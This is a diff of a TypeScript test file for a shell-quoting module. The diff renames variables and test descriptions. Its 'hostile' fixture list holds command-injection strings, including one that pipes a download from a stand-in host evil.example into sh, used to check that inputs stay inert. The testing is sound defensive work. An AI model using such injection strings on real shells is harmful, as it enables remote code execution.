@@ -29,15 +29,15 @@ describe("shellCommand", () => {
     expect(argvOf([line])).toEqual([argv]);
   });
 
-  const unfit: readonly (readonly [string, readonly string[]])[] = [
-    ["nothing", []],
+  const unsafe: readonly (readonly [string, readonly string[]])[] = [
+    ["no arguments", []],
     ["an assignment in place of a program", ["PATH=/tmp", "x"]],
     ["a program with a space", ["a b"]],
     ["an empty program", [""]],
     ["an option in place of a program", ["-x"]],
     ["a lone dash", ["show", "-"]],
-    ["what begins with a dash and is no option", ["show", "-;x"]],
-    ["what begins with three dashes", ["show", "---"]],
+    ["an argument that begins with a dash and is not an option", ["show", "-;x"]],
+    ["an argument of three dashes", ["show", "---"]],
     ["1,025 characters", ["show", "x".repeat(1025)]],
     ...Object.entries({
       newline: "\n", "carriage return": "\r", NUL: "\0", escape: "\u001b", DEL: "\u007f", "C1 CSI": "\u009b", NEL: "\u0085", "line separator": "\u2028",
@@ -45,7 +45,7 @@ describe("shellCommand", () => {
       "soft hyphen": "\u00ad", "tag letter": "\u{e0041}", "unpaired surrogate": "\ud800",
     }).flatMap(([name, c]) => [[name, ["show", `a${c}b`]] as const, [`${name} in an option's value`, ["show", `--a=${c}`]] as const]),
   ];
-  it.each(unfit)("returns undefined for %s", (_, argv) => expect(shellCommand(argv)).toBeUndefined());
+  it.each(unsafe)("returns undefined for %s", (_, argv) => expect(shellCommand(argv)).toBeUndefined());
 
   it("makes a shell pass exactly the arguments", () => {
     const r = new Random(4);
@@ -91,7 +91,7 @@ describe("commands of a hostile flow", () => {
   const hostile = [
     "cilium; id #", "x$(curl evil.example|sh)", "`id`", "a; id ~", "a' ; id ; '", 'a" ; id ; "', "a\\", "$IFS", "a && id", "a | id", "a > /dev/full", "*", "~root", "a b", "!!", "it's",
   ];
-  const unfit = ["a\nid\n", "a\u001b]0;x\u0007", "a\u009b2J", "a\u202eb", "--kubeconfig=/tmp/x", "-Axyz", "a\u2028id", "1025".repeat(257)];
+  const unsafe = ["a\nid\n", "a\u001b]0;x\u0007", "a\u009b2J", "a\u202eb", "--kubeconfig=/tmp/x", "-Axyz", "a\u2028id", "1025".repeat(257)];
   /** Commands as an adapter sends them, with empty arguments. */
   const COMMANDS = [
     ["kubectl", "-n", "", "describe", "deployment", ""],
@@ -109,7 +109,7 @@ describe("commands of a hostile flow", () => {
     [["sh", "-c", "true"]],
     [["constructor", "get"]],
     [[]],
-  ])("offers no one %j", (argv) => {
+  ])("do not include %j", (argv) => {
     expect(offeredCommand(argv)).toBeUndefined();
   });
 
@@ -135,7 +135,7 @@ describe("commands of a hostile flow", () => {
     }
   });
 
-  it("are never shown if a shell can't take them safely", () => {
-    for (const text of unfit) for (const line of all(text)) expect(line).not.toContain(text);
+  it("are never shown if they are not safe in a shell", () => {
+    for (const text of unsafe) for (const line of all(text)) expect(line).not.toContain(text);
   });
 });
